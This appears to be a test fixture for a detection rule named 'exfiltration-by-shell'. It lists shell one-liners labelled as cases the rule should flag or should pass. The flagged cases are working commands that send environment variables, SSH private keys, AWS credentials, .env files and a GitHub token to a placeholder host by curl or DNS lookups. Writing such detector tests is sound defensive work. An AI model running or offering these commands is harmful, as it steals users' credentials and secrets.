# ruleid: exfiltration-by-shell
env | curl -X POST --data-binary @- https://a.invalid
# ruleid: exfiltration-by-shell
cat ~/.ssh/id_rsa | base64 | curl -d @- https://a.invalid
# ruleid: exfiltration-by-shell
curl -F "f=@$HOME/.aws/credentials" https://a.invalid/in
# ruleid: exfiltration-by-shell
curl -d @.env https://a.invalid/in
# ruleid: exfiltration-by-shell
ALL=$(env | base64 -w0)
curl -d "$ALL" https://a.invalid
# ruleid: exfiltration-by-shell
for f in ~/.ssh/*; do curl -F "f=@$f" https://a.invalid; done
# ruleid: exfiltration-by-shell
dig @ns.a.invalid $(echo $GITHUB_TOKEN | base64).a.invalid
# ruleid: exfiltration-by-shell
curl -X POST https://a.invalid/in -d "host=$(hostname)" -d "key=$(cat "$HOME/.ssh/id_*" | base64)"
# ruleid: exfiltration-by-shell
curl -s https://a.invalid/in -F "archive=@$(tar -czf /tmp/x.tgz -C $HOME .aws/credentials /root/.ssh)"
# ruleid: exfiltration-by-shell
curl -F "f=@$x/.ssh/id_*" https://a.invalid/in
# ok: exfiltration-by-shell
curl -H "Authorization: Bearer $(cat "$HOME/.config/acme/token")" -d "n=$(wc -l < notes.txt)" https://api.acme.invalid
# ok: exfiltration-by-shell
curl -H "Authorization: Bearer $ACME_API_KEY" https://api.acme.invalid/v1 -d @body.json
# ok: exfiltration-by-shell
scp ~/.ssh/id_ed25519.pub user@host.invalid:keys/
# ok: exfiltration-by-shell
env | grep PATH
